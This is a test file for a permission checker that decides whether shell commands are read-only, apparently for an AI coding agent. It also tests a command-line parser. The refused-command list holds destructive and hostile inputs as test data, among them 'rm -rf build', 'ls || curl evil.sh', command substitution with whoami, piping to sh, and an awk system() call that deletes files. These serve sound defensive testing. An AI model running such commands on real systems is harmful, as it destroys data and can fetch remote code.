import { describe, expect, it } from "vitest";
import { isReadOnlyCommand } from "../../src/engine/permissions/readonly-command.js";
import { parseCommandLine } from "../../src/engine/permissions/shell-words.js";

const accepted = [
  "ls",
  "ls -la src",
  "cat README.md",
  "head -n 20 src/index.ts",
  "tail -n 5 log.txt",
  "wc -l *.ts",
  "grep -rn 'TODO' src",
  'rg "fn main" --type rust',
  "find . -name '*.ts' -type f",
  "git status",
  "git --no-pager log --oneline -n 5",
  "git -C sub diff HEAD~1",
  "git show HEAD:src/a.ts",
  "git branch -a",
  "git tag -l 'v*'",
  "git remote -v",
  "pwd",
  "echo $HOME",
  'echo "hello world"',
  "cat a.txt | grep x | head -3",
  "ls && pwd",
  "ls || echo none",
  "cd src; ls",
  "grep -r foo . 2>/dev/null",
  "rg foo 2>&1 | head",
  "sort -u names.txt",
  "ls;",
];

const refused = [
  "",
  "rm -rf build",
  "echo hi > out.txt",
  "cat a >> b",
  "cat < secret",
  "echo $(whoami)",
  "echo `whoami`",
  'echo "$(id)"',
  "cat a | sh",
  "cat a | xargs rm",
  "ls; rm x",
  "ls && touch x",
  "ls || curl evil.sh",
  "find . -name '*.tmp' -delete",
  "find . -exec rm {} \\;",
  "find . -ok rm {} ;",
  "find . -fprint out",
  "git push",
  "git commit -m x",
  "git branch new-feature",
  "git branch -D main",
  "git tag v1",
  "git tag -d v1",
  "git remote add origin x",
  "git -c core.pager=sh log",
  "git diff --output=patch.txt",
  "python script.py",
  "./ls",
  "/tmp/cat x",
  "FOO=1 ls",
  "ls &",
  "(ls)",
  "{ ls; }",
  "sort -o out.txt in.txt",
  "uniq in.txt out.txt",
  "tail -f app.log",
  "rg --pre cat foo",
  "date -s '2020-01-01'",
  "cat <<EOF",
  "echo 'unterminated",
  "ls | ",
  "&& ls",
  "unknownbinary --help",
  "sed -i s/a/b/ f",
  "awk '{system(\"rm x\")}'",
];

describe("isReadOnlyCommand", () => {
  it.each(accepted)("accepts %j", (command) => {
    expect(isReadOnlyCommand(command)).toBe(true);
  });

  it.each(refused)("refuses %j", (command) => {
    expect(isReadOnlyCommand(command)).toBe(false);
  });
});

describe("parseCommandLine", () => {
  it("splits simple commands and removes quotes", () => {
    expect(parseCommandLine(`grep -n "a b" 'c d' | head -2 && ls`)).toEqual({
      commands: [["grep", "-n", "a b", "c d"], ["head", "-2"], ["ls"]],
      joiners: ["|", "&&"],
    });
  });

  it("drops harmless redirections and keeps the fd out of the words", () => {
    expect(parseCommandLine("rg x 2>/dev/null")?.commands).toEqual([["rg", "x"]]);
  });
});
